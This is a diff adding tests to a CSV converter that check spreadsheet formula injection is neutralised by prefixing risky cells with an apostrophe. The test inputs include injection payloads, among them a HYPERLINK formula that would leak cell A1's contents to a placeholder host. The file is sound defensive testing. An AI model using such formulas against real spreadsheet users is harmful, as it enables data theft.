@@ -276,6 +276,44 @@ describe('CSV', () => {
     expect(lines[3]).toMatch(/^5,33,,,,,,,"""33"" .+"$/);
     expect(lines.slice(4)).toEqual(['']);
   });
+
+  /** The cells of the column `input`, with their quotation marks. */
+  const inputCells = (items: readonly string[], options: Partial<ConversionOptions> = {}) => {
+    const body = JSON.stringify(items);
+    return convert([body], { from: 'json', to: 'csv', ...options })
+      .split(/\n(?=\d|$)/)
+      .slice(1, -1)
+      .map((line) => /^\d+,("(?:[^"]|"")*"|[^,]*),/.exec(line)?.[1]);
+  };
+  const formulas = ['=1+1', '+1', '-1', '@SUM(A1)', '\tx', '\rx', '\0=x', "'=x", "'x", 'a=b'];
+
+  test('no cell begins like a formula, for which a spreadsheet would take it', () => {
+    expect(inputCells(formulas)).toEqual([
+      "'=1+1",
+      "'+1",
+      "'-1",
+      "'@SUM(A1)",
+      "'\tx",
+      `"'\rx"`,
+      "'\0=x",
+      "''=x",
+      "'x",
+      'a=b',
+    ]);
+    expect(inputCells(['=HYPERLINK("http://x/?"&A1,"y")'])).toEqual([
+      `"'=HYPERLINK(""http://x/?""&A1,""y"")"`,
+    ]);
+  });
+
+  test('on request a cell is left as it came', () => {
+    expect(inputCells(formulas, { keepFormulas: true })).toEqual(
+      formulas.map((text) => (text === '\rx' ? '"\rx"' : text)),
+    );
+  });
+
+  test('other formats repeat an item as it came', () => {
+    expect(records('=1+1')).toMatchObject([{ input: '=1+1' }]);
+  });
 });
 
 describe.each(['csv', 'ndjson'] as const)('an empty body of %s', (from) => {
